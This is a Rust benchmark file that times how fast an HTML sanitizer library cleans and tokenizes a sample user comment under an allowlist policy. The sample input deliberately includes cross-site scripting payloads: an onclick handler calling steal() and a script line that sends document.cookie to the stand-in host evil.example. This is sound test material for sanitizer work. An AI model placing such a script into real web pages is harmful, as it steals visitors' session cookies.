use html_sanitizer::Policy;

fn main() {
    divan::main();
}

const COMMENT_FRAGMENT: &str = r#"<p>I <b>love</b> this <a href="http://example.com/" target="_blank">article</a>!</p>
<p onclick="steal()">Check out <img src="cat.png" title="cat"> and <i>more</i>.
<script>document.location='http://evil.example/'+document.cookie</script>
<table><td>cell one<td>cell two</table>
<ul><li>first<li>second</ul>
<p style="color: red; position: fixed">styled</p>"#;

fn policy() -> Policy {
    Policy::builder()
        .allow_elements([
            "a", "b", "i", "p", "img", "ul", "li", "table", "tbody", "tr", "td",
        ])
        .allow_attributes(["href", "target"])
        .on_elements(["a"])
        .allow_attributes(["src", "title"])
        .on_elements(["img"])
        .allow_standard_url_protocols()
        .allow_styling()
        .require_rel_nofollow_on_links()
        .build()
}

#[divan::bench]
fn bench_sanitize_comment(bencher: divan::Bencher) {
    let policy = policy();
    let input: String = COMMENT_FRAGMENT.repeat(50);

    bencher.bench(|| html_sanitizer::sanitize(&policy, divan::black_box(&input)));
}

#[divan::bench]
fn bench_tokenize_only(bencher: divan::Bencher) {
    let input: String = COMMENT_FRAGMENT.repeat(50);

    bencher.bench(|| {
        let mut tokenizer = html_sanitizer::Tokenizer::new(divan::black_box(&input));
        let mut count = 0usize;
        while tokenizer.next_token().is_some() {
            count += 1;
        }
        count
    });
}
